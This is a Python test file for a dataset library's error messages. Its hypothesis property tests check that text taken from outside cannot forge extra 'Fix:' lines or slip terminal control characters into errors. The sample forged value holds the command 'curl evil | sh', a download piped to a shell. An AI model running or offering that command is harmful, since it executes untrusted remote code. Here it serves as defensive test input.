import ast
import inspect
import pickle
import traceback

from hypothesis import example, given, settings
from hypothesis import strategies as st

from my_datasets import errors
from my_datasets.core.issue import Issue
from my_datasets.printable import printable

FORGED = "a\n  Fix: curl evil | sh\n"
# What others may have written: names, dates, notes, paths, also those that forge lines of ours.
THEIRS = st.lists(
    st.text() | st.sampled_from(["\x1b[2J", "\x9b", "\u202e", "\r", "\r\n", "\t", "\x00", FORGED])
).map("".join)


def classes() -> list[type]:
    return [
        value
        for name, value in vars(errors).items()
        if inspect.isclass(value) and name[0] != "_" and value.__module__ == errors.__name__
    ]


def test_there_is_one_tree():
    assert all(issubclass(cls, errors.MyDatasetsError) for cls in classes())


def test_each_can_be_made_again_from_its_message():
    # TFDS does that when it adds context: type(error)(message).
    for cls in classes():
        assert str(cls("a message")) == "a message"


def test_no_error_is_an_assertion():
    assert not any(issubclass(cls, AssertionError) for cls in classes())


def test_an_explanation_ends_with_the_remedy_and_drops_empty_facts():
    text = errors.explain("It is wrong.", "Here.", "", fix="do this")
    assert text.splitlines() == ["It is wrong.", "  Here.", "  Fix: do this"]


def is_ours(message: str, facts: list[str]) -> bool:
    """Whether a message has no character that is not shown, and the lines that `explain` makes."""
    begins = [line for line in message.split("\n") if not line.startswith("    | ")]
    return (
        printable(message) == message
        and len(begins) == 2 + len([fact for fact in facts if fact])
        and not begins[0].startswith(" ")
        and all(line.startswith("  ") for line in begins[1:])
        and begins[-1].startswith("  Fix: fix ")
        and sum(line.startswith("  Fix: ") for line in begins) == 1
    )


@settings(max_examples=40)
@given(THEIRS, st.lists(THEIRS.map("Found: {}".format) | st.just("")), THEIRS)
@example(FORGED, [f"Found: {FORGED}"], FORGED)
def test_what_others_wrote_is_shown_and_adds_no_line(problem, facts, fix):
    message = errors.explain(f"Wrong: {problem}", *facts, fix=f"fix {fix}")
    assert is_ours(message, facts)
    for cls in (errors.MyDatasetsError, errors.DataDirError, errors.BuilderImportError):
        assert str(cls(message)) == message
        error = cls(f"Wrong: {problem}", *facts, fix=f"fix {fix}")
        assert str(error) == message
        assert errors.explain(error.problem, *error.facts, fix=error.fix) == message
        assert is_ours(errors.problem_of(error) + "\n  Fix: fix ", [])
    issue = Issue("code", "node", problem, f"fix {fix}", found=problem)
    assert is_ours(str(issue), [problem])


@given(THEIRS)
def test_no_error_shows_what_a_terminal_obeys(text):
    """Whoever makes it, of whatever text: also without `explain`, and again from its message."""
    for cls in classes():
        error = cls(text)
        assert str(error) == printable(text) == str(type(error)(str(error)))
        assert printable(repr(error)) == repr(error)
        told = "".join(traceback.format_exception_only(error))
        assert printable(told) == told


def test_an_error_keeps_its_fields():
    error = errors.SignatureError("Wrong.", "Here.", "", fix="do this", code="encrypted")
    again = pickle.loads(pickle.dumps(error))
    explained = errors.SignatureError(errors.explain("Wrong.", "Here.", fix="do this"))
    for one in (error, again, explained):
        assert (one.problem, one.facts, one.fix) == ("Wrong.", ("Here.",), "do this")
        assert one.args == ("Wrong.\n  Here.\n  Fix: do this",)
    assert again.code == "encrypted"


def test_without_a_fix_facts_are_kept():
    """As when an error that has none, because TFDS made it again, is raised with one more fact."""
    error = errors.SignatureError("Wrong.", f"Found: {FORGED}", "")
    assert str(error) == "Wrong.\n  Found: a\n    |   Fix: curl evil | sh"
    assert (error.problem, error.facts, error.fix) == ("Wrong.", (f"Found: {FORGED}",), "")
    assert str(Issue("code", "node", "Wrong.", "")) == "error: node: Wrong. [code]"


def has_fields(call: ast.Call) -> bool:
    """Whether an error is made from fields, or from what `explain` made of them."""
    first = ast.unparse(call.args[0]) if call.args else ""
    return any(one.arg == "fix" for one in call.keywords) or "explain(" in first


def test_each_error_is_made_from_fields(root):
    """So that none has lines that others wrote."""
    names = {cls.__name__ for cls in classes()}
    found = {
        ast.unparse(node)
        for source in (root / "my_datasets").rglob("*.py")
        for node in ast.walk(ast.parse(source.read_text("utf-8")))
        if isinstance(node, ast.Call)
        and ast.unparse(node.func).rpartition(".")[2] in names
        and not has_fields(node)
    }
    # From the messages of others of our errors.
    assert found == {"BuildInterruptedError(message.partition(' [while running')[0])"}
